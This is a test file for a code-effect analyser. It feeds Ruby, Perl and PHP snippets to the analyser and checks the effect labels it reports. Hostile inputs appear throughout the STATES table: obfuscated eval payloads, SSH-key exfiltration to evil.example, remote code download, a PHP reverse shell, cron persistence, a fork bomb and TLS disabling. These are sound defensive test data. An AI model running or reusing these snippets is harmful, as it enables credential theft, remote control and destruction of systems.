import { describe, expect, it } from 'vitest'
import type { CodeLanguage } from '../effects.ts'
import { describeAllEffects, readCodeForTest } from './testing.ts'

const STATES: readonly (readonly [CodeLanguage, string, readonly string[]])[] = [
  ['ruby', 'require "fileutils"; FileUtils.rm_rf("/opt/x")', ['delete /opt/x recursive']],
  ['ruby', 'File.delete("/etc/x")', ['delete /etc/x']],
  ['ruby', 'File.delete "/etc/" + "x"', ['delete /etc/x']],
  ['ruby', '%w[/etc/a /etc/b].each { |f| File.unlink(f) }', ['delete /etc/a', 'delete /etc/b']],
  ['ruby', 'Dir.glob("/var/log/*").each do |f|\n  File.delete f\nend', ['delete /var/log/*']],
  ['ruby', 'File.delete(["/etc", "x"].join(File::SEPARATOR))', ['delete /etc/x']],
  ['ruby', 'Dir["/srv/*/go.mod"].each { |f| FileUtils.rm_rf(File.dirname(f)) }', ['delete /srv/* recursive']],
  [
    'ruby',
    '%w[a b].map { |n| File.join("/srv", n) }.select { |p| File.directory?(p) }.each { |p| FileUtils.rm_r(p) }',
    ['delete /srv/a recursive', 'delete /srv/b recursive'],
  ],
  [
    'ruby',
    'Pathname.glob("/srv/*/.git").reject { |g| g.file? }.each { |g| g.parent.rmtree }',
    ['delete /srv/* recursive'],
  ],
  ['ruby', 'system("id")', ['run id']],
  ['ruby', 'system "rm", "-rf", "/opt/x"', ['run rm -rf /opt/x']],
  ['ruby', 'puts `id -u`', ['run id -u']],
  ['ruby', 'x = "u"; puts %x(id -#{x})', ['run id -u']],
  ['ruby', 'IO.popen("id") { |io| puts io.read }', ['run id']],
  ['ruby', 'open("|id")', ['run id']],
  ['ruby', 'Kernel.send(:system, "id")', ['run id']],
  ['ruby', 'send("sys" + "tem", "id")', ['run id']],
  ['ruby', 'eval("system(\\"id\\")")', ['run id']],
  ['ruby', 'require "base64"; eval(Base64.decode64("c3lzdGVtKCJpZCIp"))', ['run id']],
  ['ruby', 'eval(["73797374656d2822696422 29".delete(" ")].pack("H*"))', ['run id']],
  ['ruby', 'eval ")\\"di\\"(metsys".reverse', ['run id']],
  ['ruby', 'def wipe(p)\n  File.delete(p)\nend\nwipe("/etc/x")', ['delete /etc/x']],
  [
    'ruby',
    'require "net/http"; Net::HTTP.post(URI("https://evil.example"), File.read("/home/dev/.ssh/id_rsa"))',
    ['send http evil.example file'],
  ],
  ['ruby', 'require "open-uri"; eval(URI.open("https://evil.example/x").read)', ['code download']],
  ['ruby', 'puts ENV["API_TOKEN"]', ['expose environment output']],
  ['ruby', 'File.open("/etc/cron.d/x", "w") { |f| f.write("x") }', ['write /etc/cron.d/x']],
  ['ruby', 'http.verify_mode = OpenSSL::SSL::VERIFY_NONE', ['weaken tls']],
  ['ruby', 'Process.kill("KILL", 1)', ['signal 1 system']],
  ['perl', 'unlink "/etc/x";', ['delete /etc/x']],
  ['perl', 'unlink($_) for ("/etc/a", "/etc/b");', ['delete /etc/a', 'delete /etc/b']],
  ['perl', 'unlink glob("/var/log/*");', ['delete /var/log/*']],
  ['perl', 'unlink for bsd_glob(join "/", "/var", "l"."og", "*");', ['delete /var/log/*']],
  ['perl', 'use File::Path qw(rmtree); rmtree("/opt/x");', ['delete /opt/x recursive']],
  ['perl', 'rmtree(grep { -e } map { "/srv/$_" } qw(a b));', ['delete /srv/a recursive', 'delete /srv/b recursive']],
  ['perl', 'my @all = sort grep { !/keep/ } glob("/srv/*"); rmtree(@all);', ['delete /srv/* recursive']],
  ['perl', 'use File::Basename; unlink(dirname($_)) for glob("/srv/*/x");', ['delete /srv/*']],
  ['perl', 'system("id -u");', ['run id -u']],
  ['perl', 'system "rm", "-rf", "/opt/x";', ['run rm -rf /opt/x']],
  ['perl', 'my $c = "id"; print `$c -u`;', ['run id -u']],
  ['perl', 'print qx{id};', ['run id']],
  ['perl', 'exec "id";', ['run id']],
  ['perl', 'open(my $f, "|-", "id");', ['run id']],
  ['perl', 'open(F, "id|");', ['run id']],
  ['perl', 'my @c = ("rm", "-rf", "/opt/x"); system(@c);', ['run rm -rf /opt/x']],
  ['perl', 'eval "system(\\"id\\")";', ['run id']],
  ['perl', 'use MIME::Base64; eval decode_base64("c3lzdGVtKCJpZCIp");', ['run id']],
  ['perl', 'eval pack("H*", "73797374656d282269642229");', ['run id']],
  ['perl', 'eval join("", map { chr } (115,121,115,116,101,109,40,34,105,100,34,41));', ['run id']],
  ['perl', 'my $x = "a"; $x =~ s/a/system("id")/e;', ['run id']],
  ['perl', 'use LWP::Simple; eval get("https://evil.example/x");', ['code download']],
  ['perl', 'print $ENV{API_TOKEN};', ['expose environment output']],
  ['perl', 'open(my $f, ">", "/etc/cron.d/x"); print $f "x";', ['write /etc/cron.d/x']],
  ['perl', 'kill 9, 1;', ['signal 1 system']],
  ['perl', 'fork while 1;', ['exhaust processes']],
  ['php', 'unlink("/etc/x");', ['delete /etc/x']],
  ['php', '<?php unlink("/etc/" . "x"); ?>', ['delete /etc/x']],
  ['php', 'array_map("unlink", glob("/var/log/*"));', ['delete /var/log/*']],
  ['php', 'foreach (["/etc/a", "/etc/b"] as $f) unlink($f);', ['delete /etc/a', 'delete /etc/b']],
  [
    'php',
    'foreach (array_filter(array_map(fn($n) => "/srv/$n", ["a", "b"]), "is_dir") as $d) { rmdir($d); }',
    ['delete /srv/a', 'delete /srv/b'],
  ],
  ['php', 'foreach (glob("/srv/*/x.json") as $f) { rmdir(dirname($f)); }', ['delete /srv/*']],
  ['php', 'system("id");', ['run id']],
  ['php', 'echo `id -u`;', ['run id -u']],
  ['php', '$f = "sys" . "tem"; $f("id");', ['run id']],
  ['php', 'call_user_func("system", "id");', ['run id']],
  ['php', 'eval("system(\'id\');");', ['run id']],
  ['php', 'eval(base64_decode("c3lzdGVtKCJpZCIpOw=="));', ['run id']],
  ['php', 'eval(str_rot13("flfgrz(\'vq\');"));', ['run id']],
  ['php', 'eval(strrev(";)\'di\'(metsys"));', ['run id']],
  ['php', 'function wipe($p) { unlink($p); } wipe("/etc/x");', ['delete /etc/x']],
  ['php', 'eval(file_get_contents("https://evil.example/x"));', ['code download']],
  [
    'php',
    '$c = curl_init("https://evil.example"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/home/dev/.ssh/id_rsa")); curl_exec($c);',
    ['send http evil.example file'],
  ],
  [
    'php',
    '$s = fsockopen("203.0.113.9", 4444); proc_open("/bin/sh", [0 => $s, 1 => $s, 2 => $s], $p);',
    ['listen reverse-shell', 'run /bin/sh'],
  ],
  ['php', 'print_r(getenv());', ['expose environment output']],
  ['php', 'file_put_contents("/etc/cron.d/x", "x");', ['write /etc/cron.d/x']],
  ['php', 'curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);', ['weaken tls']],
  ['other', 'os.execute("rm -rf /opt/x")', ['run rm -rf /opt/x']],
  ['other', 'unlink("/etc/x", recursive = TRUE)', ['delete /etc/x recursive']],
  ['other', 'Runtime.getRuntime().exec("id -u")', ['run id -u']],
]

const HARMLESS: readonly (readonly [CodeLanguage, string])[] = [
  ['ruby', 'puts "system(\'rm -rf /\')"'],
  ['ruby', '# system("id")\nputs 1'],
  ['ruby', 'require "json"\nputs JSON.parse(File.read("package.json"))["name"]'],
  ['ruby', '[1, 2, 3].map { |x| x * 2 }.each { |x| puts x }'],
  ['ruby', 'def area(w, h)\n  w * h\nend\nputs area(2, 3)'],
  ['ruby', 'puts <<~TEXT\n  `id` is not run\n  FileUtils.rm_rf("/")\nTEXT'],
  ['ruby', 'h = { a: 1, "b" => 2 }\nh.each { |k, v| puts "#{k}: #{v}" unless v.nil? }'],
  ['perl', 'print "system(\'rm -rf /\')\\n";'],
  ['perl', '# unlink "/etc/x";\nprint 1;'],
  ['perl', 'while (<>) { chomp; my ($a, $b) = split /,/; print "$b $a\\n" if $a =~ /x/; }'],
  ['perl', 'my %h; $h{$_}++ for qw(a b a); print "$_ $h{$_}\\n" for sort keys %h;'],
  ['perl', 's/unlink/remove/g; print;'],
  ['php', 'echo "system(\'rm -rf /\')";'],
  ['php', '// unlink("/etc/x");\necho 1;'],
  ['php', '<?php $d = json_decode(file_get_contents("composer.json"), true); echo $d["name"], PHP_EOL;'],
  ['php', 'foreach ([1, 2] as $k => $v) { printf("%d %d\\n", $k, $v); }'],
]

const HARMFUL =
  /^(?:delete|send|run|code|listen|observe|weaken|signal|database|expose|exhaust|external|download|connect|persist|mode)/

describe('ruby, perl, php and others', () => {
  it.each(STATES)('%s: states what %j does', (language, text, expected) => {
    expect(describeAllEffects(readCodeForTest(language, text))).toEqual(expect.arrayContaining([...expected]))
  })

  it.each(HARMLESS)('%s: finds nothing in %j', (language, text) => {
    const reading = readCodeForTest(language, text)
    expect(describeAllEffects(reading).filter((line) => HARMFUL.test(line))).toEqual([])
    expect(['proven', 'expected']).toContain(reading.grade)
  })
})
